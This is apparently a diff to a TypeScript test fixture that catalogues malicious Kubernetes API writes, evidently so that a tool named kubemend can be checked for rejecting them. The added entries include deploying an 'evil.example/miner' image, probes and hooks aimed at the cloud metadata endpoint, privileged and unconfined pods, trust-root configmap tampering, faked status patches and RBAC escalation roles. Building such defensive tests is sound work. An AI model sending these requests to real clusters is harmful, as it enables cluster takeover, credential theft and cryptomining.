@@ -4,6 +4,8 @@ export interface HostileWrite {
   readonly method: "PATCH" | "POST" | "DELETE";
   readonly path: string;
   readonly body: object;
+  /** Media type of the body, where the method and the path do not say it. */
+  readonly type?: string;
 }
 
 const digest = "0".repeat(64);
@@ -58,6 +60,18 @@ const templates = (name: string): readonly (readonly [string, object])[] => {
       "a command as a probe",
       container({ livenessProbe: { exec: { command: ["sh", "-c", "x"] }, tcpSocket: null, httpGet: null } }),
     ],
+    [
+      "a probe of another host",
+      container({
+        readinessProbe: {
+          httpGet: { host: "169.254.169.254", path: "/", port: 80 },
+          tcpSocket: null,
+          exec: null,
+          grpc: null,
+        },
+      }),
+    ],
+    ["a disk of the network", pod({ volumes: [{ name: "n", nfs: { server: "10.0.0.1", path: "/" } }] })],
     [
       "a Secret as a variable",
       container({ env: [{ name: "S", valueFrom: { secretKeyRef: { name: "admin", key: "p" } } }] }),
@@ -149,6 +163,48 @@ const autoscaler = (
   },
 });
 
+const applied = "application/apply-patch+yaml";
+const carts = {
+  apiVersion: "apps/v1",
+  kind: "Deployment",
+  metadata: { name: "carts", namespace: "shop", annotations: stamp },
+};
+const deployments = "/apis/apps/v1/namespaces/shop/deployments";
+const miner = { name: "carts", image: "evil.example/miner:1" };
+
+/** By other ways than a patch of the object itself. */
+const otherWays: readonly HostileWrite[] = [
+  {
+    name: "a forced apply of another program",
+    method: "PATCH",
+    path: `${deployments}/carts?fieldManager=mine&force=true`,
+    type: applied,
+    body: { ...carts, spec: { template: { spec: { containers: [miner] } } } },
+  },
+  {
+    name: "a Deployment by apply",
+    method: "PATCH",
+    path: `${deployments}/miner?fieldManager=mine&force=true`,
+    type: applied,
+    body: {
+      ...carts,
+      metadata: { ...carts.metadata, name: "miner" },
+      spec: {
+        selector: { matchLabels: { app: "miner" } },
+        template: { metadata: { labels: { app: "miner" } }, spec: { containers: [miner] } },
+      },
+    },
+  },
+  patch("a rollout that seems done", `${deployments}/carts/status`, { status: { observedGeneration: 99 } }),
+  patch("a node that seems well", "/api/v1/nodes/node-1/status", { status: { capacity: { cpu: "1000" } } }),
+  patch("a guest in a pod", `${shop}/pods/carts-2-abcde/ephemeralcontainers`, {
+    spec: { ephemeralContainers: [{ name: "guest", image: "evil.example/miner:1" }] },
+  }),
+  patch("a pod that seems ready", `${shop}/pods/carts-2-abcde/status`, { status: { phase: "Succeeded" } }),
+  patch("trust in another authority", `${shop}/configmaps/kube-root-ca.crt`, { data: { "ca.crt": "mine" } }),
+  patch("trust in another mesh", `${shop}/configmaps/istio-ca-root-cert`, { data: { "root-cert.pem": "mine" } }),
+];
+
 const others: readonly HostileWrite[] = [
   patch("replicas without the scale subresource", workloads[0].path, { spec: { replicas: 0 } }),
   patch("a million replicas", `${workloads[0].path}/scale`, { spec: { replicas: 1_000_000 } }),
@@ -196,6 +252,13 @@ const others: readonly HostileWrite[] = [
     { nonResourceURLs: ["/metrics"], resources: null, apiGroups: null },
     "/apis/rbac.authorization.k8s.io/v1/clusterroles/shop",
   ),
+  role("other policies", { resources: ["mutatingadmissionpolicies"], verbs: ["create"] }),
+  role("signed certificates", { resources: ["certificatesigningrequests/approval"], verbs: ["update"] }),
+  role("every pod's port", { resources: ["pods/proxy"], verbs: ["create"] }),
+  role("every Service's port", { resources: ["services/proxy"], verbs: ["get"] }),
+  role("labels of nodes", { resources: ["nodes"], verbs: ["patch"] }),
+  role("labels of namespaces", { resources: ["namespaces"], verbs: ["get", "update"] }),
+  role("disks of nodes", { resources: ["persistentvolumes"], verbs: ["create"] }),
   role("its own name", {}, "/apis/rbac.authorization.k8s.io/v1/clusterroles/kubemend-actor"),
   patch("an aggregated role", "/apis/rbac.authorization.k8s.io/v1/clusterroles/shop", {
     aggregationRule: { clusterRoleSelectors: [{ matchLabels: { a: "b" } }] },
@@ -215,6 +278,23 @@ const others: readonly HostileWrite[] = [
   job("with privileges", jobContainer({ securityContext: { privileged: true } })),
   job("that may get privileges", jobContainer({ securityContext: { allowPrivilegeEscalation: true } })),
   job("with capabilities", jobContainer({ securityContext: { capabilities: { add: ["NET_ADMIN"] } } })),
+  job("as another account by the field's old name", { serviceAccount: "kubemend-actor" }),
+  job("with a disk of the network", { volumes: [{ name: "n", nfs: { server: "10.0.0.1", path: "/" } }] }),
+  job("with a repository that the node fetches", { volumes: [{ name: "g", gitRepo: { repository: "x" } }] }),
+  job("with a driver on the node", { volumes: [{ name: "f", flexVolume: { driver: "a/b" } }] }),
+  job("as a process of a Windows node", {
+    hostNetwork: false,
+    securityContext: { windowsOptions: { hostProcess: true, runAsUserName: "NT AUTHORITY\\SYSTEM" } },
+  }),
+  job("with every system call", jobContainer({ securityContext: { seccompProfile: { type: "Unconfined" } } })),
+  job("with every system call for the pod", { securityContext: { seccompProfile: { type: "Unconfined" } } }),
+  job("without AppArmor", jobContainer({ securityContext: { appArmorProfile: { type: "Unconfined" } } })),
+  job("with a label of SELinux", { securityContext: { seLinuxOptions: { type: "spc_t" } } }),
+  job("with settings of the kernel", { securityContext: { sysctls: [{ name: "kernel.msgmax", value: "1" }] } }),
+  job(
+    "whose hook asks the node's network",
+    jobContainer({ lifecycle: { preStop: { httpGet: { host: "169.254.169.254", port: 80, path: "/" } } } }),
+  ),
   job(
     "with a Secret as a variable",
     jobContainer({ env: [{ name: "S", valueFrom: { secretKeyRef: { name: "a", key: "b" } } }] }),
@@ -224,6 +304,20 @@ const others: readonly HostileWrite[] = [
   job("with privileges before it starts", {
     initContainers: [{ name: "i", image: "a", securityContext: { privileged: true } }],
   }),
+  {
+    name: "a Job of a million pods",
+    method: "POST",
+    path: "/apis/batch/v1/namespaces/shop/jobs",
+    body: {
+      apiVersion: "batch/v1",
+      kind: "Job",
+      metadata: { name: "reindex-rerun-x", annotations: { ...stamp, "kubemend.dev/rerun-of": "reindex" } },
+      spec: {
+        parallelism: 1_000_000,
+        template: { spec: { restartPolicy: "Never", containers: [{ name: "c", image: "registry.local/c:1" }] } },
+      },
+    },
+  },
   autoscaler("of another workload", { scaleTargetRef: { apiVersion: "apps/v1", kind: "Deployment", name: "payment" } }),
   autoscaler("without end", { maxReplicas: 5_000 }),
   autoscaler("by an outside metric", {
@@ -294,4 +388,4 @@ const others: readonly HostileWrite[] = [
 ];
 
 /** All of them are writes that the API itself would take. */
-export const hostileWrites: readonly HostileWrite[] = [...onWorkloads, ...others];
+export const hostileWrites: readonly HostileWrite[] = [...onWorkloads, ...others, ...otherWays];
